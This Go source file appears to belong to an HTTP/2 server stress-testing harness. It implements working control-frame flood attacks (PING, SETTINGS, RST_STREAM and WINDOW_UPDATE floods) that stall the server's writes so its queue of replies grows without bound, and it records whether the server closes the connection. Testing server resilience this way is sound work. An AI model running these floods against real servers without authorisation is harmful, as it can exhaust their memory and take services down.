package hostile

import (
	"context"
	"encoding/binary"
	"fmt"
	"strconv"
	"time"

	"golang.org/x/net/http2"
)

// The floods of control frames a server must answer (PING and SETTINGS
// ACKs, RST_STREAM, WINDOW_UPDATE) sent behind a stalled write: the
// client asks for a large answer, reads its first frame and no more, so
// the server's write of the rest blocks in the socket, and every answer
// to the flood must wait in the server's queue. A server that bounds
// that queue closes the connection (Go's closes it past 10,000 queued
// control frames); one that does not grows it as fast as the client
// sends.

// stallReceiveBuffer is the attacker's socket receive buffer: small, so
// that the server's write of the large answer blocks within a few tens of
// KiB instead of filling megabytes of buffers first.
const stallReceiveBuffer = 4 << 10

// floodBatch is the frames sent between checks of the clock.
const floodBatch = 256

// PingFlood sends PINGs as fast as it can behind a stalled write, never
// reading their ACKs.
func PingFlood(ctx context.Context, tg Target, o Options) Report {
	return stalledFlood(ctx, tg, o, "ping-flood", nil, func(c *conn, i uint64) error {
		var data [8]byte
		binary.BigEndian.PutUint64(data[:], i)
		return c.fr.WritePing(false, data)
	})
}

// SettingsFlood sends empty SETTINGS frames, each of which the server
// must acknowledge, behind a stalled write.
func SettingsFlood(ctx context.Context, tg Target, o Options) Report {
	return stalledFlood(ctx, tg, o, "settings-flood", nil, func(c *conn, _ uint64) error {
		return c.fr.WriteSettings()
	})
}

// ResetFlood makes the server queue RST_STREAM frames behind a stalled
// write: empty DATA frames on a stream the client reset, each of which
// is a stream error (STREAM_CLOSED) the server answers with a reset.
func ResetFlood(ctx context.Context, tg Target, o Options) Report {
	return stalledFlood(ctx, tg, o, "rst-flood", openAndReset, func(c *conn, _ uint64) error {
		return c.fr.WriteData(3, false, nil)
	})
}

// WindowUpdateFlood makes the server queue WINDOW_UPDATE frames behind a
// stalled write: DATA frames of 4 KiB on a stream the client reset. The
// server must count them against the connection's window (RFC 9113,
// 6.9) and, since no stream takes them, give the window back: Go's
// server does so for every frame of 4 KiB or more, leasehold's for every
// 256 KiB. Each frame also earns a RST_STREAM, as in ResetFlood.
func WindowUpdateFlood(ctx context.Context, tg Target, o Options) Report {
	payload := make([]byte, 4<<10)
	return stalledFlood(ctx, tg, o, "window-update-flood", openAndReset, func(c *conn, _ uint64) error {
		return c.fr.WriteData(3, false, payload)
	})
}

// openAndReset opens stream 3 for the small answer and resets it.
func openAndReset(c *conn) error {
	if _, err := c.request("GET", c.tg.SmallPath, true); err != nil {
		return err
	}
	return c.fr.WriteRSTStream(3, http2.ErrCodeCancel)
}

// stalledFlood stalls each connection's writes (stall), runs setup, then
// sends frames made by send as fast as the connection takes them, without
// reading, until the time is up, ctx ends or a write fails: the server
// closed the connection (then what it sent before closing is read, for a
// GOAWAY).
func stalledFlood(ctx context.Context, tg Target, o Options, name string, setup func(*conn) error, send func(c *conn, i uint64) error) Report {
	return run(ctx, tg, o, name, func(ctx context.Context, c *conn) error {
		if err := c.dial(ctx, stallReceiveBuffer); err != nil {
			return err
		}
		if err := c.stall(); err != nil {
			return err
		}
		if setup != nil {
			if err := setup(c); err != nil {
				return err
			}
		}
		end, stop := c.begin(ctx, o.Duration)
		defer stop()
		var i uint64
		for time.Now().Before(end) && ctx.Err() == nil {
			for range floodBatch {
				if err := send(c, i); err != nil {
					return c.floodEnded(ctx, err)
				}
				i++
			}
			if err := c.bw.Flush(); err != nil {
				return c.floodEnded(ctx, err)
			}
		}
		return nil
	})
}

// floodEnded notes why a flood's write failed: the server closed the
// connection (then its last frames are read for a GOAWAY), or the
// attack's time was up (or it was stopped) while a write waited for the
// server to read.
func (c *conn) floodEnded(ctx context.Context, err error) error {
	if isTimeout(err) {
		if ctx.Err() != nil {
			c.mu.Lock()
			c.res.Note = "stopped early"
			c.mu.Unlock()
		}
		return nil
	}
	c.serverClosed(err)
	c.drain()
	return nil
}

// stall opens stream 1 for the large answer with the stream's and the
// connection's windows as wide as HTTP/2 allows, so that the server
// writes it all at once, and reads until its first DATA frame. From then
// on the client reads nothing: the rest fills the socket buffers and the
// server's write blocks.
func (c *conn) stall() error {
	if err := c.handshake(http2.Setting{ID: http2.SettingInitialWindowSize, Val: maxWindow}); err != nil {
		return err
	}
	if err := c.fr.WriteWindowUpdate(0, maxWindow-initialWindow); err != nil {
		return err
	}
	if _, err := c.request("GET", c.tg.LargePath, true); err != nil {
		return err
	}
	if err := c.bw.Flush(); err != nil {
		return err
	}
	for {
		f, err := c.fr.ReadFrame()
		if err != nil {
			return fmt.Errorf("waiting for the large answer: %w", err)
		}
		switch f := f.(type) {
		case *http2.MetaHeadersFrame:
			if s := f.PseudoValue("status"); f.StreamID == 1 && s != "200" {
				code, _ := strconv.Atoi(s)
				return fmt.Errorf("the large answer (%s) has status %d", c.tg.LargePath, code)
			}
		case *http2.DataFrame:
			if f.StreamID == 1 && f.StreamEnded() {
				return fmt.Errorf("the large answer (%s) is too small to stall the server's writes", c.tg.LargePath)
			}
			if f.StreamID == 1 {
				return nil
			}
		case *http2.RSTStreamFrame:
			return fmt.Errorf("the large answer was reset: %v", f.ErrCode)
		case *http2.GoAwayFrame:
			return fmt.Errorf("GOAWAY %v before the large answer", f.ErrCode)
		case *http2.SettingsFrame:
			if !f.IsAck() {
				if err := c.fr.WriteSettingsAck(); err != nil {
					return err
				}
				if err := c.bw.Flush(); err != nil {
					return err
				}
			}
		}
	}
}
